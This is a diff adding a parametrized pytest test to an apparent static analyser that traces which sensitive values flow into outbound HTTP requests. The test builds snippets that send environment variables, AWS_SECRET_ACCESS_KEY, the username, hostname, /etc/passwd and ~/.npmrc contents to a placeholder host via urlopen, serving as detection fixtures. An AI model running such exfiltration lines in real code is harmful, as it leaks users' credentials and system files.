@@ -222,3 +222,32 @@ def test_ntplib_destination_is_the_host_argument_on_the_ntp_port(tmp_path: Path)
         note="port ntp (123/udp); address from socket.getaddrinfo; default argument"),)
     assert resolve.data_sources == () and send.data_sources == ()
     assert all(f.data_sources == () for f in analysis.findings)
+
+
+@pytest.mark.parametrize("expr, sources", [
+    ("os.environ", ("env",)),
+    ("str(dict(os.environ))", ("env",)),
+    ("os.environ.get('AWS_SECRET_ACCESS_KEY', '')", ("env AWS_SECRET_ACCESS_KEY",)),
+    ("os.getenv(name)", ("env",)),
+    ("getpass.getuser()", ("username",)),
+    ("platform.node()", ("hostname",)),
+    ("socket.gethostname()", ("hostname",)),
+    ("os.path.expanduser('~')", ("homedir",)),
+    ("str(pathlib.Path.home())", ("homedir",)),
+    ("platform.platform()", ("platform",)),
+    ("sys.platform", ("platform",)),
+    ("subprocess.check_output(['whoami']).decode()", ("command-output",)),
+    ("open('/etc/passwd').read()", ("file /etc/passwd",)),
+    ("open(os.path.join(os.path.expanduser('~'), '.npmrc')).read()", ("file ~/.npmrc",)),
+    ("base64.b64encode(json.dumps([os.getenv('A'), socket.gethostname()]).encode())", ("env A", "hostname")),
+    ("urllib.parse.quote(getpass.getuser())", ("username",)),
+    ("'%s' % platform.node()", ("hostname",)),
+    ("len(os.environ)", ()),
+    ("open(name).read()", ()),              # a path known only at run time: not claimed
+    ("'static'", ()),
+])
+def test_each_source_into_a_body(expr, sources):
+    text = ("import base64, getpass, json, os, pathlib, platform, socket, subprocess, sys, urllib.parse\n"
+            "import urllib.request\n"
+            f"def f(name):\n    urllib.request.urlopen('https://x.example.com/', data={expr})\n")
+    assert one(run(text), "urllib.request.urlopen", 4).data_sources == sources
